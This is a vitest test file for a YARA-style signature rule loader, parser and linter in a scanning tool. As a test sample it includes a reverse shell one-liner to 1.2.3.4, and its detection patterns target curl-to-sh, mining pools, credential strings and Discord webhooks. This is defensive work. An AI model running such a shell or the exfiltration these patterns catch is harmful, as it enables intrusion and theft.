import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import os from 'node:os';
import path from 'node:path';
import { afterEach, describe, expect, it } from 'vitest';
import type { LibraryRule } from './library.js';
import { MAX_RULE_FILE_BYTES, defaultSignaturesDir, lint, lintLibrary, loadRuleLibrary, loadRuleLibrarySync } from './library.js';
import { parseYarFile } from './yar-parse.js';

const dirs: string[] = [];
afterEach(async () => {
  await Promise.all(dirs.splice(0).map((d) => rm(d, { recursive: true, force: true })));
});

async function tree(files: Record<string, string | Buffer>): Promise<string> {
  const root = await mkdtemp(path.join(os.tmpdir(), 'assay-siglib-'));
  dirs.push(root);
  for (const [rel, content] of Object.entries(files)) {
    await mkdir(path.dirname(path.join(root, rel)), { recursive: true });
    await writeFile(path.join(root, rel), content);
  }
  return root;
}

interface RuleParts {
  id?: string;
  name?: string;
  meta?: string;
  strings?: string;
  condition?: string;
}

function ruleText(parts: RuleParts = {}): string {
  const id = parts.id ?? 'good-rule';
  const meta = parts.meta ?? `id = "${id}"\n    severity = "high"\n    kind = "threat"\n    description = "Reverse shell one-liner. More words."\n    reference = ""\n    author = "tests"\n    version = 2`;
  return `rule ${parts.name ?? id.replace(/-/g, '_')} : tag1 {\n  meta:\n    ${meta}\n  strings:\n    ${parts.strings ?? '$a = "/dev/tcp/" ascii'}\n  condition:\n    ${parts.condition ?? 'any of them'}\n}\n`;
}

const SAMPLES = { 'shells/samples/good-rule/match/a.sh': 'bash -i >& /dev/tcp/1.2.3.4/9 0>&1', 'shells/samples/good-rule/nomatch/b.sh': 'echo hi' };

describe('loadRuleLibrary', () => {
  it('reads meta, strings and samples of a good rule', async () => {
    const root = await tree({ 'shells/good-rule.yar': ruleText(), ...SAMPLES });
    const { rules, problems } = await loadRuleLibrary([root]);
    expect(problems).toEqual([]);
    expect(rules).toHaveLength(1);
    const rule = rules[0] as LibraryRule;
    expect(rule).toMatchObject({ id: 'good-rule', category: 'shells', severity: 'high', kind: 'threat', reference: '', author: 'tests', version: 2, ruleNames: ['good_rule'] });
    expect(rule.strings).toEqual([{ id: '$a', kind: 'text', value: '/dev/tcp/', line: 11 }]);
    expect(rule.samples.match.map((f) => path.basename(f))).toEqual(['a.sh']);
    expect(rule.samples.nomatch.map((f) => path.basename(f))).toEqual(['b.sh']);
    expect(lint(rule)).toEqual([]);
  });

  it.each([
    { name: 'missing meta', text: ruleText({ meta: 'id = "good-rule"\n severity = "high"' }), message: /meta kind is missing/ },
    { name: 'bad severity', text: ruleText({ meta: 'id = "good-rule" severity = "urgent" kind = "threat" description = "d" reference = "" author = "a" version = 1' }), message: /meta severity/ },
    { name: 'reference not a URL', text: ruleText({ meta: 'id = "good-rule" severity = "low" kind = "threat" description = "d" reference = "see blog" author = "a" version = 1' }), message: /meta reference/ },
    { name: 'id not the file name', text: ruleText({ id: 'other-rule' }), message: /meta id "other-rule" is not the file name "good-rule"/ },
    { name: 'no rule at all', text: '// nothing here\n', message: /no rule in the file/ },
    { name: 'NUL bytes', text: `${ruleText()}\0\0`, message: /NUL/ },
    { name: 'a huge file', text: `${ruleText()}//${'x'.repeat(MAX_RULE_FILE_BYTES)}`, message: /over the 262144-byte rule file cap/ },
  ])('reports $name as a problem and leaves the rule out', async ({ text, message }) => {
    const root = await tree({ 'shells/good-rule.yar': text, ...SAMPLES });
    const { rules, problems } = await loadRuleLibrary([root]);
    expect(rules).toEqual([]);
    expect(problems.length).toBeGreaterThan(0);
    expect(problems.map((p) => p.message).join('\n')).toMatch(message);
    expect(problems[0]?.file).toContain('good-rule.yar');
  });

  it('survives deeply nested braces quickly', async () => {
    const text = `${ruleText()}\nrule deep { ${'{'.repeat(100_000)} }`;
    const root = await tree({ 'shells/good-rule.yar': text, ...SAMPLES });
    const started = performance.now();
    const { rules } = await loadRuleLibrary([root]);
    expect(performance.now() - started).toBeLessThan(2000);
    expect(rules[0]?.syntax.some((s) => /not closed/.test(s.message))).toBe(true);
  });

  it('flags two rules in one file and a second file with the same id', async () => {
    const two = `${ruleText()}\n${ruleText({ name: 'second_rule' })}`;
    const root = await tree({ 'shells/good-rule.yar': two, ...SAMPLES });
    const again = await tree({ 'more/good-rule.yar': ruleText() });
    const { rules, problems } = loadRuleLibrarySync([root, again]);
    expect(rules).toHaveLength(1);
    expect(problems.map((p) => p.message).join()).toMatch(/already defined/);
    expect(lint(rules[0] as LibraryRule).map((p) => p.message).join()).toMatch(/2 rules in the file \(good_rule, second_rule\)/);
  });

  it('skips samples/ folders and reports a folder that does not exist', () => {
    const { rules, problems } = loadRuleLibrarySync([path.join(os.tmpdir(), 'assay-no-such-folder-x')]);
    expect(rules).toEqual([]);
    expect(problems[0]?.message).toMatch(/not a folder of rules/);
  });

  it('finds the project library folder', () => {
    expect(defaultSignaturesDir()).toMatch(/signatures[\\/]$/);
  });
});

describe('parseYarFile', () => {
  it('reads escapes, hex, regexes, negative numbers and booleans, ignoring comments', () => {
    const parsed = parseYarFile(`/* rule fake { } */ rule r { // rule nope {
      meta: a = "q\\"x\\x41" b = -3 c = true d = 0x10
      strings: $h = { 4D 5A ?? [2-4] 90 } $r = /ab[/]c\\/d/ nocase
      condition: $h and $r }`);
    expect(parsed.errors).toEqual([]);
    expect(parsed.rules.map((r) => r.name)).toEqual(['r']);
    expect(parsed.rules[0]?.meta).toEqual({ a: 'q"xA', b: -3, c: true, d: 16 });
    expect(parsed.rules[0]?.strings.map((s) => [s.kind, s.value])).toEqual([['hex', ' 4D 5A ?? [2-4] 90 '], ['regex', 'ab[/]c\\/d']]);
  });
});

describe('lint', () => {
  async function lintOf(strings: string): Promise<string> {
    const root = await tree({ 'shells/good-rule.yar': ruleText({ strings }), ...SAMPLES });
    const { rules, problems } = await loadRuleLibrary([root]);
    expect(problems).toEqual([]);
    return lintLibrary(rules).map((p) => p.message).join('\n');
  }

  it.each([
    ['dot star', '$a = /curl .*\\| sh/', /unbounded pattern \.\*/],
    ['dot plus', '$a = /stratum\\+tcp:\\/\\/.+/', /unbounded pattern \.\+/],
    ['dot unbounded braces', '$a = /stratum\\+tcp.{3,}/', /unbounded pattern \.\{3,\}/],
    ['negated class star', '$a = /password=[^\\n]*/', /unbounded pattern \[\^\\n\]\*/],
    ['negated class plus', '$a = /Authorization: [^"]+/', /unbounded pattern \[\^"\]\+/],
    ['non-space plus', '$a = /webhook\\S+/', /unbounded pattern \\S\+/],
    ['open jump', '$a = { 7F 45 4C 46 [-] 2F 62 69 6E }', /unbounded jump \[-\]/],
    ['jump without end', '$a = { 7F 45 4C 46 [16-] 2F 62 69 6E }', /unbounded jump \[16-\]/],
    ['only a common atom', '$a = "http"', /no string has an atom/],
    ['only short atoms', '$a = "key" $b = { 41 42 ?? 43 }', /no string has an atom/],
    ['a regex with only an optional tail', '$a = /https?:\\/\\/[0-9]{1,3}/', /no string has an atom/],
    ['padding bytes', '$a = { 00 00 00 00 00 }', /no string has an atom/],
  ])('catches %s', async (_name, strings, message) => {
    expect(await lintOf(strings)).toMatch(message);
  });

  it.each([
    ['a text atom', '$a = "/dev/tcp/"'],
    ['a bounded regex with a literal', '$a = /stratum\\+tcp:\\/\\/[a-z0-9.\\-]{1,100}/'],
    ['a hex string with a long fixed run', '$a = { 7F 45 4C 46 [0-8] ?? 01 }'],
    ['a bounded negated class', '$a = /discord(app)?\\.com\\/api\\/webhooks\\/[^\\/]{1,30}/'],
  ])('accepts %s', async (_name, strings) => {
    expect(await lintOf(strings)).toBe('');
  });

  it('wants a match and a nomatch sample', async () => {
    const root = await tree({ 'shells/good-rule.yar': ruleText() });
    const { rules } = await loadRuleLibrary([root]);
    const messages = lint(rules[0] as LibraryRule).map((p) => p.message);
    expect(messages).toEqual(['no sample in samples/good-rule/match/', 'no sample in samples/good-rule/nomatch/']);
  });

  it('stays linear on a hostile regex', () => {
    const rule = { id: 'x', path: 'x.yar', syntax: [], ruleNames: ['x'], samples: { match: ['m'], nomatch: ['n'] }, strings: [{ id: '$a', kind: 'regex' as const, value: `${'('.repeat(50_000)}a{${'9'.repeat(50_000)}`, line: 1 }] };
    const started = performance.now();
    lint(rule as unknown as LibraryRule);
    expect(performance.now() - started).toBeLessThan(2000);
  });
});
